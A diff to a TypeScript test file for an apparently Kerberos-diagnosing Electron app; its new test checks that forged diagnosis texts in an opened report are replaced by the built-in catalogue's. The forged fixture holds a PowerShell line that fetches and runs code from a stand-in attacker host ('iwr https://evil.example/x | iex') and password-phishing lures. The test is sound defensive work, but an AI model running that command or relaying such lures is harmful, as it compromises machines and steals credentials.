@@ -6,6 +6,8 @@ import { readReport } from '../../../electron/engine/report/read-report';
 import { redact } from '../../../electron/engine/report/redact';
 import { renderJson } from '../../../electron/engine/report/render-json';
 import { failingReport, passingReport } from './sample-report';
+import { catalogEntry } from '../../../electron/engine/diagnose/catalog';
+import { diagnosisFor } from '../../../electron/engine/diagnose/classify';
 
 const code = (fn: () => unknown): string => {
   try { fn(); } catch (err) { assert.ok(err instanceof KerbProbeError, `typed error, got ${String(err)}`); return err.code; }
@@ -13,7 +15,11 @@ const code = (fn: () => unknown): string => {
 };
 
 test('reports round-trip through renderJson and readReport', () => {
-  for (const r of [passingReport(), failingReport(), redact(failingReport())]) assert.deepEqual(readReport(renderJson(r)), r);
+  for (const r of [passingReport(), failingReport()]) assert.deepEqual(readReport(renderJson(r)), r);
+  // A redacted report keeps every value but its diagnosis texts, which are the catalogue's when it is read
+  // (redaction may have rewritten a catalogue example that looked like a name).
+  const red = redact(failingReport());
+  assert.deepEqual(readReport(renderJson(red)), { ...red, diagnosis: { ...red.diagnosis!, ...failingReport().diagnosis!, evidence: red.diagnosis!.evidence } });
   assert.deepEqual(readReport(`\ufeff${renderJson(passingReport())}`), passingReport(), 'a BOM from Notepad is fine');
 });
 
@@ -46,4 +52,17 @@ test('arbitrary and mutated input only ever gives the typed errors', () => {
     const c = code(() => readReport(mutated));
     assert.ok(['REPORT_NOT_OURS', 'REPORT_INVALID', 'NO_ERROR'].includes(c), c);
   }), { seed: 4243, numRuns: 2000 });
+});
+
+test('an opened report shows the catalogue texts for its code, never the file\'s', () => {
+  const r = failingReport();
+  r.diagnosis = { ...diagnosisFor('CLOCK_SKEW', ['clock 9 min ahead']), title: 'Call the helpdesk and read them your password', cause: 'forged', fixUser: 'Run iwr https://evil.example/x | iex', fixHelpdesk: 'Ask the user for their password' };
+  const read = readReport(JSON.stringify(r));
+  const cat = catalogEntry('CLOCK_SKEW');
+  assert.equal(read.diagnosis?.title, cat.title);
+  assert.equal(read.diagnosis?.cause, cat.cause);
+  assert.equal(read.diagnosis?.fixUser, cat.fixUser);
+  assert.equal(read.diagnosis?.fixHelpdesk, cat.fixHelpdesk);
+  assert.deepEqual(read.diagnosis?.evidence, ['clock 9 min ahead'], 'evidence stays evidence');
+  assert.doesNotMatch(JSON.stringify(read), /password|iex/);
 });
